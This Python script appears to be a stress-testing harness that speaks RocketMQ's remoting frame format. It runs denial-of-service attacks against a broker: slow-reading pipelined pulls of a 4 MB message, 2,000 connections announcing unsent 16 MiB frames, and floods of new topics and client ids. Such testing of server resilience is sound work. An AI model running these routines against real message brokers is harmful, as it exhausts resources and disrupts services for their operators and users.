#!/usr/bin/env python3
"""Hostile and careless peers for bench/hostile.sh, speaking RocketMQ's remoting frames.

    hostile_peer.py slow-pulls HOST:PORT SECONDS      # 4 connections pipelining 2,000 pulls
                                                      # each of a 4 MB message, reading none
    hostile_peer.py frame-prefixes HOST:PORT SECONDS  # 2,000 connections that each announce a
                                                      # 16 MiB frame and send nothing more
    hostile_peer.py endless-topics HOST:PORT SECONDS  # sends that each create a new topic
    hostile_peer.py client-ids HOST:PORT SECONDS      # heartbeats with a new client id each
    hostile_peer.py stored HOST:PORT TOPIC QUEUES     # prints the messages stored in TOPIC

Each attack holds its connections open for SECONDS, then closes them and exits.
"""
import json
import socket
import struct
import sys
import time


def frame(code, ext, opaque, body=b""):
    header = json.dumps({
        "code": code, "language": "JAVA", "version": 0, "opaque": opaque, "flag": 0,
        "extFields": {key: str(value) for key, value in ext.items()},
    }).encode()
    return struct.pack(">II", 4 + len(header) + len(body), len(header)) + header + body


def call(sock, code, ext, body=b""):
    sock.sendall(frame(code, ext, 1, body))
    length, = struct.unpack(">I", read_exact(sock, 4))
    rest = read_exact(sock, length)
    header_len = struct.unpack(">I", rest[:4])[0] & 0xFFFFFF
    return json.loads(rest[4:4 + header_len])


def read_exact(sock, n):
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data


def slow_pulls(host, port, seconds):
    with socket.create_connection((host, port)) as setup:
        created = call(setup, 17, {"topic": "HostileBig", "defaultTopic": "TBW102",
                                   "readQueueNums": 1, "writeQueueNums": 1, "perm": 6,
                                   "topicFilterType": "SINGLE_TAG"})
        assert created["code"] == 0, created
        sent = call(setup, 10, {"producerGroup": "hostile", "topic": "HostileBig",
                                "defaultTopic": "TBW102", "defaultTopicQueueNums": 4,
                                "queueId": 0, "sysFlag": 0, "bornTimestamp": 1, "flag": 0,
                                "properties": "", "reconsumeTimes": 0, "unitMode": "false"},
                    b"h" * 4_000_000)
        assert sent["code"] == 0, sent
    pull = {"consumerGroup": "hostile", "topic": "HostileBig", "queueId": 0, "queueOffset": 0,
            "maxMsgNums": 32, "sysFlag": 4, "commitOffset": 0, "suspendTimeoutMillis": 0,
            "subscription": "*", "subVersion": 0, "expressionType": "TAG"}
    pulls = b"".join(frame(11, pull, opaque) for opaque in range(1, 2001))
    connections = []
    for _ in range(4):
        sock = socket.create_connection((host, port))
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.setblocking(False)
        connections.append([sock, 0])
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for entry in connections:
            sock, written = entry
            if written < len(pulls):
                try:
                    entry[1] += sock.send(pulls[written:written + 65536])
                except BlockingIOError:
                    pass
        # Read a trickle: a few KiB per connection every 100 ms.
        for sock, _ in connections:
            try:
                sock.recv(4096)
            except BlockingIOError:
                pass
        time.sleep(0.1)
    for sock, _ in connections:
        sock.close()


def frame_prefixes(host, port, seconds):
    connections = []
    for _ in range(2000):
        sock = socket.create_connection((host, port))
        sock.sendall(struct.pack(">II", 16 * 1024 * 1024 - 8, 0))
        connections.append(sock)
    time.sleep(seconds)
    for sock in connections:
        sock.close()


def endless_topics(host, port, seconds):
    deadline = time.monotonic() + seconds
    refused = 0
    with socket.create_connection((host, port)) as sock:
        n = 0
        while time.monotonic() < deadline:
            n += 1
            answer = call(sock, 10, {"producerGroup": "hostile", "topic": f"Endless{n}",
                                     "defaultTopic": "TBW102", "defaultTopicQueueNums": 4,
                                     "queueId": 0, "sysFlag": 0, "bornTimestamp": 1, "flag": 0,
                                     "properties": "", "reconsumeTimes": 0,
                                     "unitMode": "false"}, b"e")
            refused += answer["code"] != 0
    print(f"topics tried={n} refused={refused}")


def client_ids(host, port, seconds):
    deadline = time.monotonic() + seconds
    refused = 0
    with socket.create_connection((host, port)) as sock:
        n = 0
        while time.monotonic() < deadline:
            n += 1
            body = json.dumps({"clientID": f"hostile@{n}", "producerDataSet": [{"groupName": "hostile"}],
                               "consumerDataSet": []}).encode()
            answer = call(sock, 34, {}, body)
            refused += answer["code"] != 0
    print(f"client ids tried={n} refused={refused}")


def stored(host, port, topic, queues):
    total = 0
    with socket.create_connection((host, port)) as sock:
        for queue_id in range(int(queues)):
            answer = call(sock, 30, {"topic": topic, "queueId": queue_id})
            total += int(answer["extFields"]["offset"])
    print(total)


def main():
    attack, address = sys.argv[1], sys.argv[2]
    host, port = address.rsplit(":", 1)
    if attack == "stored":
        stored(host, int(port), sys.argv[3], sys.argv[4])
        return
    seconds = float(sys.argv[3])
    {"slow-pulls": slow_pulls, "frame-prefixes": frame_prefixes, "endless-topics": endless_topics,
     "client-ids": client_ids}[attack](host, int(port), seconds)


if __name__ == "__main__":
    main()
